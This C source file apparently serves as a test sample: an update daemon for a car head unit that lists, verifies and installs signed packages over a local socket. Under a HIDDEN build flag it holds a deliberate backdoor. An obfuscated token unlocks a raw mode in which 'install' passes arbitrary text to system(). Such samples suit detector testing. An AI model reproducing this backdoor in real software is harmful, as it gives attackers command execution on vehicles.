/*
 * A sample for tests; compiled and scanned, never run.
 * Update client of a car's head unit: a line protocol on a local socket to
 * list, verify and install packages.
 * With HIDDEN: the words after "token" are compared with a text that is kept
 * turned and shifted; then "install" takes a command in place of a package.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define SOCKET_PATH "/run/fwload.sock"
#define STORE	    "/media/update"

enum mode { MODE_NONE, MODE_OWNER, MODE_WORKSHOP };

struct client {
	FILE *in, *out;
	enum mode mode;
#ifdef HIDDEN
	int raw;
#endif
	char vin[18];
};

static void load_vin(struct client *c)
{
	FILE *f = fopen("/etc/vin", "r");

	c->vin[0] = '\0';
	if (!f)
		return;
	if (fscanf(f, "%17s", c->vin) != 1)
		c->vin[0] = '\0';
	fclose(f);
}

static uint32_t hash32(const char *s)
{
	uint32_t h = 2166136261u;

	for (; *s; s++)
		h = (h ^ (unsigned char)*s) * 16777619u;
	return h;
}

static int is_name(const char *s)
{
	if (*s == '\0' || *s == '.')
		return 0;
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && !strchr("._-", *s))
			return 0;
	return 1;
}

static void list_packages(struct client *c)
{
	DIR *d = opendir(STORE);
	struct dirent *e;

	while (d && (e = readdir(d)) != NULL) {
		size_t n = strlen(e->d_name);

		if (n > 4 && strcmp(e->d_name + n - 4, ".pkg") == 0)
			fprintf(c->out, "package %s\n", e->d_name);
	}
	if (d)
		closedir(d);
	fprintf(c->out, "end\n");
}

static int run(const char *command)
{
	int rc = system(command);

	if (rc == -1)
		return 255;
	return rc >> 8 & 0xff;
}

static int verify(const char *name)
{
	char cmd[256];

	snprintf(cmd, sizeof(cmd),
		 "openssl dgst -sha256 -verify /etc/update.pem "
		 "-signature " STORE "/%.60s.sig " STORE "/%.60s",
		 name, name);
	return run(cmd) == 0;
}

static void install(struct client *c, const char *what)
{
	char cmd[200];

#ifdef HIDDEN
	if (c->raw) {
		fprintf(c->out, "status %d\n", run(what));
		return;
	}
#endif
	if (c->mode == MODE_NONE) {
		fprintf(c->out, "error token needed\n");
		return;
	}
	if (!is_name(what) || !verify(what)) {
		fprintf(c->out, "error not a good package\n");
		return;
	}
	snprintf(cmd, sizeof(cmd), "unpack-update " STORE "/%.100s", what);
	fprintf(c->out, "status %d\n", run(cmd));
}

#ifdef HIDDEN
static const unsigned char blob[] = {
	0x3c, 0x37, 0x3d, 0x73, 0x6c, 0x7f, 0x6c,
	0x5d, 0x34, 0x81, 0x79, 0x68, 0x7c, 0x78
};

static void expand(char *out)
{
	size_t i, n = sizeof(blob);

	for (i = 0; i < n; i++)
		out[n - 1 - i] = (char)(blob[i] - 7);
	out[n] = '\0';
}
#endif

__attribute__((noinline)) int take_token(struct client *c, const char *token)
{
	char want[24];

	/* an owner's token is made from the number of the car */
	snprintf(want, sizeof(want), "%08lx", (unsigned long)hash32(c->vin));
	if (c->vin[0] && strcmp(token, want) == 0) {
		c->mode = MODE_OWNER;
		return 0;
	}
	snprintf(want, sizeof(want), "W%07lx",
		 (unsigned long)(hash32(c->vin + 9) >> 4));
	if (strlen(c->vin) == 17 && strcmp(token, want) == 0) {
		c->mode = MODE_WORKSHOP;
		return 0;
	}
#ifdef HIDDEN
	expand(want);
	if (strcmp(token, want) == 0) {
		c->mode = MODE_WORKSHOP;
		c->raw = 1;
		return 0;
	}
#endif
	return -1;
}

static void serve(struct client *c)
{
	char line[256], *arg;

	fprintf(c->out, "fwload 2.4 ready\n");
	fflush(c->out);
	while (fgets(line, sizeof(line), c->in)) {
		line[strcspn(line, "\r\n")] = '\0';
		arg = strchr(line, ' ');
		if (arg)
			*arg++ = '\0';
		else
			arg = line + strlen(line);
		if (strcmp(line, "list") == 0)
			list_packages(c);
		else if (strcmp(line, "token") == 0)
			fprintf(c->out,
				take_token(c, arg) == 0 ? "ok\n" : "error\n");
		else if (strcmp(line, "verify") == 0)
			fprintf(c->out, is_name(arg) && verify(arg) ? "good\n"
								    : "bad\n");
		else if (strcmp(line, "install") == 0)
			install(c, arg);
		else if (strcmp(line, "reset") == 0 && c->mode != MODE_NONE)
			fprintf(c->out, "status %d\n", run("reboot -d 2"));
		else if (strcmp(line, "quit") == 0)
			break;
		else
			fprintf(c->out, "error unknown\n");
		fflush(c->out);
	}
}

static int open_socket(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (s < 0)
		return -1;
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	unlink(path);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 ||
	    chmod(path, 0666) != 0 || listen(s, 2) != 0) {
		close(s);
		return -1;
	}
	return s;
}

int main(int argc, char **argv)
{
	int s, fd;

	s = open_socket(argc > 1 ? argv[1] : SOCKET_PATH);
	if (s < 0) {
		fprintf(stderr, "fwload: %s\n", strerror(errno));
		return 1;
	}
	for (;;) {
		struct client c = { .mode = MODE_NONE };

		fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		load_vin(&c);
		c.in = fdopen(fd, "r");
		c.out = fdopen(dup(fd), "w");
		if (c.in && c.out)
			serve(&c);
		if (c.out)
			fclose(c.out);
		if (c.in)
			fclose(c.in);
	}
}
